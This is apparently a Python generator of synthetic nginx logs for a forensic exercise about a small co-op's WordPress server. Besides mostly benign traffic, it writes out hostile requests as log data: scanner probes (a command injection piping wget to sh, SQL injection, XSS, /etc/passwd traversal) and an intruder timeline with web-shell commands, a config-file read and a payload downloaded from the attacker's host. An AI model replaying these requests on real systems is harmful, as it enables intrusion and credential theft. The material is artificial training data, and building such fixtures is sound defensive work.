"""nginx access.log / error.log of the web server: weekly rotations (8 kept) of modern traffic,
built from the vendors' public parameter documentation (GA4 Measurement Protocol /g/collect,
Meta Pixel /tr, Matomo tracking API, Baidu Tongji hm.gif, CNZZ, DoubleClick Floodlight), the
apps' own URL shapes (WordPress, MediaWiki, phpMyAdmin, Roundcube), crawlers and internet scanners
that never succeed; plus the 10,000 real Apache lines of the shared benign-traffic corpus, re-dated
into the oldest rotation. attack=True adds the intruder's requests (198.51.100.23)."""

import base64
import datetime as dt
import gzip
import io
import json
import os
import tarfile
import urllib.parse as up

import srvlib as S
from srvlib import UTC

T = dt.timedelta
ROT = 8
CORPUS = os.environ.get("HUOYAN_BENIGN_TRAFFIC", "/work/shared/corpora/benign-traffic.tar.gz")
SITE = "https://www.larkspur-coop.example"
WIKI = "https://wiki.larkspur-coop.example"
MAIL = "https://mail.larkspur-coop.example"

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 QIHU 360SE",
]
ADMIN_UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
BOTS = [
    ("66.249.66.%d", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/131.0.6778.69 Safari/537.36"),
    ("66.249.79.%d", "Googlebot-Image/1.0"),
    ("40.77.167.%d", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"),
    ("157.55.39.%d", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ("116.179.32.%d", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"),
    ("220.181.108.%d", "Mozilla/5.0 (compatible; Baiduspider-render/2.0; +http://www.baidu.com/search/spider.html)"),
    ("54.36.148.%d", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    ("185.191.171.%d", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
    ("5.255.231.%d", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
    ("114.119.132.%d", "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"),
    ("20.171.207.%d", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"),
    ("17.241.219.%d", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"),
]
PAGES = [("/", "Larkspur Co-op"), ("/about/", "About"), ("/join-us/", "Join us"), ("/events/", "Events"),
         ("/shop/", "Shop"), ("/contact/", "Contact"), ("/2026/11/winter-share-signup/", "Winter share sign-up"),
         ("/2026/10/cider-day/", "Cider day"), ("/2026/09/harvest-supper/", "Harvest supper"),
         ("/category/news/", "News"), ("/volunteer-rota/", "Volunteer rota"), ("/privacy-policy/", "Privacy policy")]
ASSETS = ["/wp-includes/css/dist/block-library/style.min.css?ver=6.1.1", "/wp-includes/js/jquery/jquery.min.js?ver=3.6.1",
          "/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.3.2", "/wp-content/themes/twentytwentythree/style.css?ver=1.0",
          "/wp-includes/js/wp-emoji-release.min.js?ver=6.1.1", "/wp-content/uploads/2026/11/winter-share-0.jpg",
          "/wp-content/uploads/2026/10/harvest-2026-1.png", "/favicon.ico", "/wp-includes/css/dashicons.min.css?ver=6.1.1"]
SEARCHES = ["select", "union", "order by", "order by date", "union station market", "select box", "delete",
            "drop off", "script", "env", "cider", "eggs", "where is the shop", "join", "' or", "honey", "1=1 sale",
            "exec meeting minutes", "insert coin", "sleep", "benchmark", "char", "table", "from", "update my details",
            "alert", "<b>jam</b>", "../", "etc", "passwd reset", "cmd", "wget", "bash course", "curl recipe", "php", "system"]
WIKI_PAGES = ["Main_Page", "Volunteer_rota", "Bed_layout", "Compost", "Special:RecentChanges", "Cider_press",
              "Meeting_minutes_2026-11", "Help:Editing", "Special:Random", "Bees", "File:Bed_layout.png"]


def q(d):
    return up.urlencode(d, quote_via=up.quote, safe="")


class Gen:
    def __init__(self, name):
        self.r = S.rng("traffic:" + name)
        self.out = []

    def ip(self):
        r = self.r
        a = r.choice([2, 5, 31, 37, 46, 62, 77, 78, 79, 81, 82, 86, 90, 92, 94, 109, 151, 176, 178, 188, 212, 213, 217,
                      24, 47, 67, 68, 71, 73, 76, 98, 99, 108, 174, 1, 14, 27, 36, 39, 42, 58, 59, 60, 101, 110, 111, 112, 113, 119, 120, 124, 125, 180, 182, 183, 223])
        return "%d.%d.%d.%d" % (a, r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))

    def line(self, when, ip, method, path, status, size, ref="-", ua="-", user="-"):
        self.out.append((when, '%s - %s [%s] "%s %s HTTP/%s" %d %d "%s" "%s"\n' % (
            ip, user, when.strftime("%d/%b/%Y:%H:%M:%S +0000"), method, path,
            "2.0" if ua not in ("-",) and "Mozilla" in ua and self.r.random() < 0.7 else "1.1", status, size, ref, ua)))

    # -- one visit of a person -------------------------------------------------------------------
    def visit(self, t):
        r = self.r
        ip, ua = self.ip(), r.choice(UAS)
        ref = r.choice(["-", "https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
                        "https://www.facebook.com/", "https://l.facebook.com/", "https://t.co/", "https://www.baidu.com/link?url=Q3x8pL0kN2",
                        "android-app://com.google.android.gm/", "https://www.ecosia.org/"])
        page, title = r.choice(PAGES)
        if r.random() < 0.2:
            page += "?" + q({"utm_source": r.choice(["newsletter", "facebook", "instagram", "mastodon"]), "utm_medium": r.choice(["email", "social", "cpc"]),
                              "utm_campaign": r.choice(["winter-share", "cider-day-2026", "members-drive"]), "utm_content": r.choice(["cta", "header", "footer-link"])})
            if r.random() < 0.5:
                page += "&fbclid=IwAR" + base64.urlsafe_b64encode(r.randbytes(40)).decode().rstrip("=")
            elif r.random() < 0.5:
                page += "&gclid=Cj0KCQiA" + base64.urlsafe_b64encode(r.randbytes(48)).decode().rstrip("=")
        self.line(t, ip, "GET", page, 200, r.randint(18000, 64000), ref, ua)
        url = SITE + page.split("?")[0]
        for a in r.sample(ASSETS, r.randint(0, 5)):
            t += T(milliseconds=r.randint(30, 400))
            self.line(t, ip, "GET", a, r.choice([200, 200, 200, 304]), r.randint(800, 90000), url, ua)
        t += T(milliseconds=r.randint(300, 1500))
        self.beacons(t, ip, ua, url, title, ref)
        for _ in range(r.choice([0, 0, 1, 2, 3])):
            t += T(seconds=r.randint(5, 120))
            k = r.random()
            if k < 0.3:
                s = r.choice(SEARCHES)
                self.line(t, ip, "GET", "/?" + q({"s": s}), 200, r.randint(15000, 30000), url, ua)
            elif k < 0.45:
                self.line(t, ip, "GET", "/?" + r.choice(["cat=2", "cat=5", "p=5", "page_id=12", "q=env", "id=5", "tag=bees", "m=202611", "lang=en"]), 200, r.randint(15000, 30000), url, ua)
            elif k < 0.6:
                filt = json.dumps({"a": 1, "category": r.choice(["veg", "eggs", "honey"]), "in_stock": True}, separators=(",", ":"))
                path = "/wp-json/wc/store/v1/products?" + ("filter=" + up.quote(filt) if r.random() < 0.7 else "filter=" + filt.replace(" ", ""))
                self.line(t, ip, "GET", path + "&per_page=12&orderby=price&order=asc", 200, r.randint(3000, 9000), url, ua)
            elif k < 0.75:
                self.line(t, ip, "POST", "/wp-admin/admin-ajax.php", 200, r.randint(40, 400), url, ua)
            elif k < 0.85:
                self.line(t, ip, "GET", "/shop/?orderby=price-desc&min_price=2&max_price=20&paged=%d" % r.randint(1, 3), 200, r.randint(20000, 40000), url, ua)
            else:
                p2, t2 = r.choice(PAGES)
                self.line(t, ip, "GET", p2, 200, r.randint(18000, 64000), url, ua)
                self.beacons(t + T(seconds=1), ip, ua, SITE + p2, t2, url)

    def beacons(self, t, ip, ua, url, title, ref):
        """First-party analytics relays (nginx proxies them, see the vhost)."""
        r = self.r
        cid = "%d.%d" % (r.randint(10 ** 8, 10 ** 9), int(S.ts(t)) - r.randint(0, 10 ** 7))
        if r.random() < 0.8:
            self.line(t, ip, "POST", "/g/collect?" + q({"v": "2", "tid": "G-7XK2M4QJ9P", "gtm": "45je4bk0v9179532506za200", "_p": str(r.randint(10 ** 9, 10 ** 10)),
                                                          "gcd": "13l3l3l3l1l1", "npa": "0", "dma": "0", "cid": cid, "ul": r.choice(["en-gb", "en-us", "fr-fr", "zh-cn"]),
                                                          "sr": r.choice(["1920x1080", "390x844", "1440x900", "2560x1440"]), "uaa": "x86", "uab": "64", "frm": "0", "pscdl": "noapi",
                                                          "_s": "1", "sid": str(int(S.ts(t))), "sct": str(r.randint(1, 9)), "seg": "1", "dl": url, "dr": ref if ref != "-" else "",
                                                          "dt": title + " | Larkspur Co-op", "en": "page_view", "_fv": "1", "_ss": "1", "tfd": str(r.randint(300, 3000))}),
                      204, 0, url, ua)
        if r.random() < 0.5:
            self.line(t + T(milliseconds=80), ip, "GET", "/tr/?" + q({"id": "1234567890123456", "ev": "PageView", "dl": url, "rl": ref if ref != "-" else "", "if": "false",
                                                                      "ts": str(int(S.ts(t) * 1000)), "sw": "1920", "sh": "1080", "v": "2.9.176", "r": "stable", "ec": "0", "o": "4126",
                                                                      "fbp": "fb.1.%d.%d" % (int(S.ts(t) * 1000) - 9999, r.randint(10 ** 9, 10 ** 10)), "ler": "empty", "cdl": "API_unavailable",
                                                                      "it": str(int(S.ts(t) * 1000) - 300), "coo": "false", "rqm": "GET"}), 200, 44, url, ua)
        if r.random() < 0.4:
            self.line(t + T(milliseconds=120), ip, "POST", "/matomo.php?" + q({"action_name": title, "idsite": "1", "rec": "1", "r": "%06d" % r.randint(0, 999999), "h": str(t.hour),
                                                                              "m": str(t.minute), "s": str(t.second), "url": url, "urlref": ref if ref != "-" else "",
                                                                              "_id": r.randbytes(8).hex(), "_idn": "0", "send_image": "0", "_refts": "0", "cookie": "1",
                                                                              "res": "1920x1080", "pv_id": base64.b64encode(r.randbytes(4)).decode()[:6], "pf_net": "0",
                                                                              "pf_srv": str(r.randint(90, 400)), "pf_tfr": "3", "pf_dm1": str(r.randint(200, 900)), "uadata": "{}"}), 204, 0, url, ua)
        if r.random() < 0.1:  # visitors from China: Baidu Tongji and CNZZ (Umeng) tags
            self.line(t + T(milliseconds=200), ip, "GET", "/hm.gif?" + q({"cc": "1", "ck": "1", "cl": "24-bit", "ds": "1920x1080", "vl": "937", "ep": "3207,121", "et": "3", "ja": "0",
                                                                          "ln": "zh-cn", "lo": "0", "lt": str(int(S.ts(t)) - 86400), "rnd": str(r.randint(10 ** 8, 10 ** 10)),
                                                                          "si": "8c1e4f6a2b3d5e7f9a0b1c2d3e4f5a6b", "v": "1.3.2", "lv": "2", "sn": str(r.randint(1000, 60000)),
                                                                          "r": "0", "ww": "1920", "u": url, "tt": title}), 200, 43, url, ua)
            self.line(t + T(milliseconds=260), ip, "GET", "/stat.htm?" + q({"id": "1281234567", "r": ref if ref != "-" else "", "lg": "zh-cn", "ntime": "none",
                                                                            "cnzz_eid": "%d-%d-" % (r.randint(10 ** 8, 10 ** 9), int(S.ts(t)) - 5000), "showp": "1920x1080",
                                                                            "p": url, "t": title, "umuuid": r.randbytes(8).hex(), "h": "1", "rnd": str(r.randint(10 ** 8, 10 ** 9))}), 200, 35, url, ua)
        if r.random() < 0.05:
            self.line(t + T(milliseconds=300), ip, "GET", "/ddm/fls/i/src=9876543;type=larks0;cat=membe0;ord=%d;npa=0;auiddc=%d;u1=%s;ps=1;pcor=%d;uaa=x86;uab=64;gtm=45fe4bk0v;epver=2;~oref=%s?"
                      % (r.randint(10 ** 12, 10 ** 13), r.randint(10 ** 8, 10 ** 9), up.quote(url, safe=""), r.randint(10 ** 8, 10 ** 9), up.quote(url, safe="")), 200, 42, url, ua)
        if r.random() < 0.03:
            payload = base64.b64encode(json.dumps({"events": [{"n": "perf", "fcp": r.randint(300, 2000), "lcp": r.randint(600, 4000), "cls": round(r.random() / 10, 3),
                                                               "inp": r.randint(40, 400), "nav": "navigate", "conn": "4g"}] * r.randint(3, 12), "ua": ua}).encode()).decode()
            self.line(t + T(seconds=5), ip, "POST", "/wp-json/larkspur/v1/rum?payload=" + up.quote(payload), 204, 0, url, ua)

    def oauth(self, t):
        r = self.r
        ip, ua = self.ip(), r.choice(UAS)
        state = base64.urlsafe_b64encode(json.dumps({"redirect_to": "/my-account/", "nonce": r.randbytes(8).hex()}).encode()).decode().rstrip("=")
        self.line(t, ip, "GET", "/wp-login.php?" + q({"action": "openid-connect-authorize", "redirect_uri": SITE + "/wp-admin/admin-ajax.php?action=openid-connect-authorize",
                                                     "state": state}), 302, 0, SITE + "/my-account/", ua)
        code = "4/0AQlEd8" + base64.urlsafe_b64encode(r.randbytes(50)).decode().rstrip("=")
        self.line(t + T(seconds=r.randint(4, 20)), ip, "GET", "/wp-admin/admin-ajax.php?" + q({"action": "openid-connect-authorize", "state": state, "code": code,
                                                                                                "scope": "email profile openid https://www.googleapis.com/auth/userinfo.email", "authuser": "0", "prompt": "none"}),
                  302, 0, "https://accounts.google.com/", ua)
        hdr = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
        body = base64.urlsafe_b64encode(json.dumps({"iss": SITE, "iat": int(S.ts(t)), "exp": int(S.ts(t)) + 3600, "data": {"user": {"id": r.randint(2, 400)}}}).encode()).decode().rstrip("=")
        jwt = "%s.%s.%s" % (hdr, body, base64.urlsafe_b64encode(r.randbytes(32)).decode().rstrip("="))
        self.line(t + T(seconds=25), ip, "GET", "/wp-json/wp/v2/users/me?context=edit&_jwt=" + jwt, 200, r.randint(700, 1500), SITE + "/my-account/", ua)
        self.line(t + T(seconds=26), ip, "GET", "/my-account/?" + q({"url": SITE + "/shop/", "dl": SITE + "/shop/basket/", "rl": SITE + "/my-account/"}), 200, 30000, SITE + "/", ua)

    def wiki(self, t):
        r = self.r
        ip, ua = self.ip(), r.choice(UAS)
        pg = r.choice(WIKI_PAGES)
        self.line(t, ip, "GET", "/wiki/" + pg, 200, r.randint(12000, 60000), "-", ua)
        self.line(t + T(milliseconds=200), ip, "GET", "/load.php?lang=en&modules=startup&only=scripts&raw=1&skin=vector", 200, 14500, WIKI + "/wiki/" + pg, ua)
        self.line(t + T(milliseconds=300), ip, "GET", "/load.php?lang=en&modules=ext.cite.styles%7Cskins.vector.styles.legacy&only=styles&skin=vector", 200, 9800, WIKI + "/wiki/" + pg, ua)
        if r.random() < 0.4:
            s = r.choice(SEARCHES)
            self.line(t + T(seconds=9), ip, "GET", "/index.php?" + q({"search": s, "title": "Special:Search", "profile": "default", "fulltext": "1"}), 200, 16000, WIKI + "/wiki/" + pg, ua)
            self.line(t + T(seconds=8), ip, "GET", "/api.php?" + q({"action": "opensearch", "format": "json", "formatversion": "2", "search": s[:3], "namespace": "0", "limit": "10"}), 200, 90, WIKI + "/wiki/" + pg, ua)
        if r.random() < 0.2:
            self.line(t + T(seconds=30), ip, "GET", "/api.php?action=query&format=json&list=recentchanges&rcprop=title%7Ctimestamp%7Cuser&rclimit=50", 200, 5400, "-", ua)

    def admin(self, t, who_ip):
        """The admins: wp-admin, phpMyAdmin (SQL in parameters), Roundcube."""
        r = self.r
        ua = ADMIN_UA
        self.line(t, who_ip, "GET", "/wp-admin/", 200, 61000, SITE + "/wp-login.php", ua)
        self.line(t + T(seconds=3), who_ip, "POST", "/wp-admin/admin-ajax.php", 200, 63, SITE + "/wp-admin/", ua)
        self.line(t + T(seconds=4), who_ip, "GET", "/wp-json/wp/v2/posts?per_page=20&status=draft&_locale=user", 200, 9100, SITE + "/wp-admin/", ua)
        if r.random() < 0.5:
            sql = r.choice(["SELECT * FROM `wp_posts` ORDER BY `ID` DESC", "SELECT option_name, option_value FROM wp_options WHERE autoload = 'yes' ORDER BY LENGTH(option_value) DESC LIMIT 20",
                            "SELECT COUNT(*) FROM wp_comments WHERE comment_approved = 'spam'", "DELETE FROM wp_comments WHERE comment_approved = 'spam'",
                            "SELECT u.user_login, m.meta_value FROM wp_users u JOIN wp_usermeta m ON m.user_id = u.ID WHERE m.meta_key = 'wp_capabilities' UNION SELECT 'n', 'a'"])
            self.line(t + T(minutes=2), who_ip, "GET", "/phpmyadmin/index.php?route=/database/structure&db=wordpress", 200, 48000, SITE + "/phpmyadmin/", ua)
            self.line(t + T(minutes=3), who_ip, "POST", "/phpmyadmin/index.php?route=/import", 200, 21000, SITE + "/phpmyadmin/index.php?route=/database/sql&db=wordpress", ua)
            self.line(t + T(minutes=3, seconds=2), who_ip, "GET", "/phpmyadmin/index.php?" + q({"route": "/sql", "db": "wordpress", "table": "wp_posts", "sql_query": sql, "pos": "0"}),
                      200, 33000, SITE + "/phpmyadmin/index.php?route=/import", ua)
            self.line(t + T(minutes=3, seconds=9), who_ip, "GET", "/phpmyadmin/js/dist/sql.js?v=5.2.1deb1", 200, 12000, SITE + "/phpmyadmin/", ua)
        if r.random() < 0.6:
            m = t + T(minutes=10)
            self.line(m, who_ip, "GET", "/?_task=mail&_mbox=INBOX", 200, 7000, MAIL + "/", ua)
            self.line(m + T(seconds=2), who_ip, "GET", "/?_task=mail&_action=list&_mbox=INBOX&_page=1&_remote=1&_unlock=loading%d" % (int(S.ts(m) * 1000)), 200, 3800, MAIL + "/?_task=mail&_mbox=INBOX", ua)
            self.line(m + T(seconds=50), who_ip, "POST", "/?_task=mail&_action=refresh", 200, 120, MAIL + "/?_task=mail&_mbox=INBOX", ua)
            self.line(m + T(seconds=70), who_ip, "GET", "/?_task=mail&_uid=%d&_mbox=INBOX&_action=show" % r.randint(200, 900), 200, 9500, MAIL + "/?_task=mail&_mbox=INBOX", ua)

    def bot(self, t):
        r = self.r
        fmt, ua = r.choice(BOTS)
        ip = fmt % r.randint(1, 250)
        for _ in range(r.randint(1, 6)):
            path = r.choice([p for p, _ in PAGES] + ["/robots.txt", "/sitemap.xml", "/wp-sitemap-posts-post-1.xml", "/feed/", "/?p=%d" % r.randint(1, 90),
                                                     "/wp-content/uploads/2026/10/harvest-2026-1.png", "/tag/bees/", "/?s=%E8%9C%82%E8%9C%9C"])
            self.line(t, ip, "GET", path, r.choice([200, 200, 200, 301, 304, 404]), r.randint(300, 60000), "-", ua)
            t += T(seconds=r.randint(1, 90))

    def scanner(self, t):
        """Internet background noise: probes that never find anything."""
        r = self.r
        ip = self.ip() if r.random() < 0.5 else "%d.%d.%d.%d" % (r.choice([45, 80, 185, 193, 194, 103, 141, 162, 167, 209]), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))
        ua = r.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
                       "python-requests/2.31.0", "Go-http-client/1.1", "curl/7.88.1", "Mozilla/5.0 zgrab/0.x", "-",
                       "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com"])
        kind = r.random()
        probes = []
        if kind < 0.3:
            probes = [("GET", p, 404) for p in r.sample(["/.env", "/.git/config", "/.aws/credentials", "/config.json", "/.env.production", "/api/.env", "/backup.zip",
                                                          "/wp-config.php.bak", "/.DS_Store", "/server-status", "/actuator/env", "/info.php", "/phpinfo.php", "/.vscode/sftp.json",
                                                          "/owa/auth/logon.aspx", "/boaform/admin/formLogin", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                                                          "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "/shell.php", "/wso.php", "/alfa.php",
                                                          "/wp-content/uploads/2026/11/shell.php", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F103.0.0.1%2Ft+-O-+%7C+sh%60)",
                                                          "/phpMyAdmin/", "/pma/", "/myadmin/", "/phpmyadmin/scripts/setup.php", "/HNAP1/", "/.well-known/security.txt"], r.randint(1, 8))]
        elif kind < 0.5:
            probes = [("POST", "/wp-login.php", 200)] * r.randint(1, 30)
        elif kind < 0.6:
            probes = [("POST", "/xmlrpc.php", 200)] * r.randint(1, 20)
        elif kind < 0.7:
            probes = [("GET", "/phpmyadmin/index.php", 403), ("GET", "/phpmyadmin/", 403)]
        elif kind < 0.8:
            probes = [("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", 200),
                      ("GET", "/?XDEBUG_SESSION_START=phpstorm", 200), ("GET", "/?author=1", 301), ("GET", "/wp-json/wp/v2/users", 200)]
        elif kind < 0.9:
            probes = [("GET", "/?" + q({"id": "1' UNION SELECT NULL,NULL,CONCAT(0x71,user(),0x71)-- -"}), 200), ("GET", "/?s=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200),
                      ("GET", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", 400), ("GET", "/?page=../../../../etc/passwd", 200)]
        else:
            probes = [("GET", "/", 200), ("GET", "/favicon.ico", 200), ("\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03", "", 400)]
        for m, path, st in probes:
            if path == "":
                self.out.append((t, '%s - - [%s] "%s" 400 166 "-" "-"\n' % (ip, t.strftime("%d/%b/%Y:%H:%M:%S +0000"), m)))
            else:
                self.line(t, ip, m, path, st, {404: 162, 403: 162, 400: 166}.get(st, r.randint(2000, 30000)), "-", ua)
            t += T(seconds=r.uniform(0.2, 4))

    def internal(self, t):
        # WordPress cron by the server itself, and the ledger app's order sync over the API.
        self.line(t, "127.0.0.1", "GET", "/wp-json/wc/v3/orders?status=completed&per_page=50", 200, self.r.randint(2000, 30000), "-", "Python-urllib/3.11")


def day_traffic(g, day):
    r = g.r
    for _ in range(r.randint(110, 170)):
        g.visit(day + T(seconds=r.randint(0, 86399)))
    for _ in range(r.randint(2, 8)):
        g.oauth(day + T(seconds=r.randint(0, 86399)))
    for _ in range(r.randint(20, 45)):
        g.wiki(day + T(seconds=r.randint(0, 86399)))
    for _ in range(r.randint(40, 90)):
        g.bot(day + T(seconds=r.randint(0, 86399)))
    for _ in range(r.randint(25, 60)):
        g.scanner(day + T(seconds=r.randint(0, 86399)))
    if day.weekday() < 5:
        for ip in (S.OFFICE, S.OFFICE, S.HOME_ADMIN2):
            if r.random() < 0.6:
                g.admin(day + T(hours=r.randint(9, 17), minutes=r.randint(0, 59)), ip)
    for m in range(0, 1440, 15):
        g.internal(day + T(minutes=m, seconds=1))


def attack_traffic(g):
    A = S.ATTACKER
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"
    t = dt.datetime(2026, 11, 25, 14, 18, 7, tzinfo=UTC)
    steps = [
        (0, "GET", "/", 200, 41210, "-"),
        (2, "GET", "/wp-json/wp/v2/plugins", 401, 152, "-"),
        (5, "GET", "/wp-content/plugins/coop-file-share/readme.txt", 200, 98, "-"),
        (9, "GET", "/wp-content/plugins/coop-file-share/upload.php", 400, 20, "-"),
        (31, "POST", "/wp-content/plugins/coop-file-share/upload.php", 200, 78, "-"),
        (40, "GET", "/wp-content/uploads/2026/11/x.php?cmd=id", 200, 54, "-"),
        (52, "GET", "/wp-content/uploads/2026/11/x.php?cmd=uname%20-a", 200, 112, "-"),
        (70, "GET", "/wp-content/uploads/2026/11/x.php?cmd=cat%20%2Fetc%2Fwordpress%2Fconfig-www.larkspur-coop.example.php", 200, 420, "-"),
        (95, "POST", "/wp-content/plugins/coop-file-share/upload.php", 200, 85, "-"),
        (110, "POST", "/wp-content/uploads/2026/11/wp-cache.php", 200, 2210, "-"),
        (180, "POST", "/wp-content/uploads/2026/11/wp-cache.php", 200, 16384, "-"),
        (240, "GET", "/wp-content/uploads/2026/11/x.php?cmd=wget%20-q%20http%3A%2F%2F198.51.100.23%2Fk%20-O%20%2Ftmp%2F.x%3Bchmod%20%2Bx%20%2Ftmp%2F.x", 200, 0, "-"),
        (305, "POST", "/wp-content/plugins/coop-file-share/upload.php", 200, 91, "-"),
        (330, "POST", "/wp-content/uploads/2026/10/thumb-150x150.php", 200, 734, "-"),
    ]
    for off, m, path, st, size, ref in steps:
        g.line(t + T(seconds=off), A, m, path, st, size, ref, ua if "upload.php" not in path else "python-requests/2.31.0")
    t2 = dt.datetime(2026, 11, 26, 2, 22, 40, tzinfo=UTC)
    for i in range(6):
        g.line(t2 + T(minutes=3 * i), A, "POST", "/wp-content/uploads/2026/10/thumb-150x150.php", 200, 300 + 77 * i, "-", ua)
    g.line(t2 + T(minutes=20), A, "GET", "/wp-content/uploads/2026/11/x.php?cmd=rm%20-f%20%2Ftmp%2F.x", 200, 0, "-", ua)


def corpus_lines(start, end):
    """The shared corpus's 10,000 real Apache lines, re-dated into [start, end) in order."""
    if not os.path.exists(CORPUS):
        return [], ""
    with tarfile.open(CORPUS) as tf:
        text = tf.extractfile("benign-traffic/apache_logs.log").read().decode("utf-8", "replace")
        lic = tf.extractfile("benign-traffic/LICENSE.elastic-examples").read().decode()
    lines = [l for l in text.splitlines() if l.strip()]
    out = []
    span = (end - start).total_seconds()
    import re
    pat = re.compile(r"\[[^\]]+\]")
    for i, l in enumerate(lines):
        when = start + T(seconds=span * i / len(lines))
        out.append((when, pat.sub("[" + when.strftime("%d/%b/%Y:%H:%M:%S +0000") + "]", l, count=1) + "\n"))
    return out, lic


def write_all(w, attack=False):
    import logs
    bounds = logs.rotation_bounds()[: ROT + 1]
    g = Gen("main")
    start = bounds[-1][0]
    for day in S.days(start, S.END):
        day_traffic(g, day)
    ev = [e for e in g.out if start <= e[0] < S.END]
    cl, lic = corpus_lines(bounds[-1][0], bounds[-1][1])
    ev += cl
    if attack:
        a = Gen("attack")
        attack_traffic(a)
        ev += a.out
    ev.sort(key=lambda e: e[0])
    for i, (s, e_) in enumerate(bounds):
        chunk = [l for t, l in ev if s <= t < e_]
        name = "/var/log/nginx/access.log" + ("" if i == 0 else ".%d" % i)
        text = "".join(chunk)
        last = max([t for t, _ in ev if s <= t < e_] or [s])
        if i >= 2:
            w.write(name + ".gz", gzip.compress(text.encode(), mtime=int(S.ts(e_))), e_ + T(seconds=1), "www-data", "adm", 0o640)
        else:
            w.write(name, text, last, "www-data", "adm", 0o640)
        # error.log: what nginx says about the same week (scanner noise).
        er = S.rng("error%d" % i)
        errs = []
        for t, l in ev:
            if s <= t < e_ and '" 404 ' in l and er.random() < 0.3:
                ip = l.split(" ", 1)[0]
                path = l.split('"')[1].split(" ")[1] if len(l.split('"')[1].split(" ")) > 1 else "/"
                errs.append('%s [error] 812#812: *%d open() "/usr/share/wordpress%s" failed (2: No such file or directory), client: %s, server: www.larkspur-coop.example, request: "GET %s HTTP/1.1", host: "www.larkspur-coop.example"\n'
                            % (t.strftime("%Y/%m/%d %H:%M:%S"), er.randint(10 ** 5, 10 ** 7), path.split("?")[0], ip, path))
        ename = "/var/log/nginx/error.log" + ("" if i == 0 else ".%d" % i)
        if i >= 2:
            w.write(ename + ".gz", gzip.compress("".join(errs).encode(), mtime=int(S.ts(e_))), e_ + T(seconds=1), "www-data", "adm", 0o640)
        else:
            w.write(ename, "".join(errs), last, "www-data", "adm", 0o640)
    if lic:
        # The corpus's licence travels with its lines (a note an admin would not have, but the
        # fixture must keep it).
        w.write("/usr/share/doc/huoyan-fixture/LICENSE.elastic-examples", lic, S.INSTALL, "root", "root", 0o644)
